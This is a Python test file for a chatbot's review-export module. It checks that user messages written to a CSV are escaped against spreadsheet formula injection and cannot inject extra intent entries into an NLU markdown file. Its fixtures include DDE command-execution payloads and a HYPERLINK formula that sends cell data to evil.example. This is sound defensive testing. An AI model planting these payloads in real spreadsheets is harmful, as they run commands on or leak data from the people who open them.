"""review.csv carries users' messages: formula-like cells must stay text in a spreadsheet."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest

from bot.quality.review import (
    FORMULA_PREFIXES,
    group_misses,
    load_misses,
    spreadsheet_safe,
    write_worksheet,
)
from bot.services.misses import record_miss
from bot.store.database import CaseStore

NOW = datetime(2026, 11, 26, 10, 0)
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|"/C calc"!A0',
    '=HYPERLINK("http://evil.example/?q="&A1,"点我查进度")',
]
BENIGN = ["审核要多久", "POS机 = 刷卡机吗", "'已经有引号"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-5", "'-5"),
        ("@ops", "'@ops"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("审核要多久", "审核要多久"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(value: str, expected: str) -> None:
    assert spreadsheet_safe(value) == expected


def test_worksheet_neutralises_formula_cells(store: CaseStore, tmp_path: Path) -> None:
    with store.session() as session:
        for number, text in enumerate(HOSTILE + BENIGN):
            record_miss(
                session, sender_id=f"s{number}", text=text, guess="=evil()", confidence=0.1,
                now=NOW,
            )  # fmt: skip
    with store.session() as session:
        groups = group_misses(load_misses(session), max_groups=1)

    markdown, table = write_worksheet(groups, tmp_path / "review")

    with table.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    examples = [row["example"] for row in rows]
    assert sorted(examples) == sorted([f"'{text}" for text in HOSTILE] + BENIGN)
    assert {row["suggested_intent"] for row in rows} == {"'=evil()"}
    assert not [
        cell for row in rows for cell in row.values() if str(cell).startswith(FORMULA_PREFIXES)
    ]
    # The markdown is for pasting into data/nlu/: it keeps the messages as they were.
    assert "=cmd|' /C calc'!A0" in markdown.read_text(encoding="utf-8")


def test_a_message_cannot_add_lines_or_intents_to_the_markdown(
    store: CaseStore, tmp_path: Path
) -> None:
    injected = "审核要多久\n- intent: greet\n  examples: |\n    - 你好\x0b\x00尾巴"
    with store.session() as session:
        record_miss(session, sender_id="s1", text=injected, guess="ask_review_time",
                    confidence=0.2, now=NOW)  # fmt: skip
    with store.session() as session:
        groups = group_misses(load_misses(session), max_groups=1)

    markdown, _ = write_worksheet(groups, tmp_path / "review")

    lines = markdown.read_text(encoding="utf-8").splitlines()
    assert [line for line in lines if line.startswith("- intent:")] == ["- intent: ask_review_time"]
    assert "    - 审核要多久 - intent: greet examples: | - 你好 尾巴" in lines
